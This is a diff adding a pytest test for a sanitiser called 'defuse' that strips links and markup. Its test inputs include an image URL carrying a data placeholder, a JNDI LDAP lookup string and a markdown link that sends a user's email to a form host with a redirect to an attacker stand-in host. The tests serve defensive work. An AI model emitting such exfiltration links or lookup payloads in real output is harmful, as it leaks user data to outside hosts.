@@ -162,3 +162,8 @@ def test_nested_markup_and_any_scheme_are_defused() -> None:
     out = defuse('<img src="https://a.test/t.gif?m=<DATA>" width="1"> ${jndi:ldap://tracker.test/a}')
     assert out.startswith("[image:") and "a.test" not in out and "ldap://tracker.test" not in out
     assert defuse(defuse("see https://me.example.org/x")) == defuse("see https://me.example.org/x")
+
+
+def test_a_url_inside_a_url_is_defanged_too() -> None:
+    out = defuse("[go](https://form.test/f?email={user_email}&redirect=https://attacker.test/cb)")
+    assert "attacker.test" not in out and "form.test" not in out
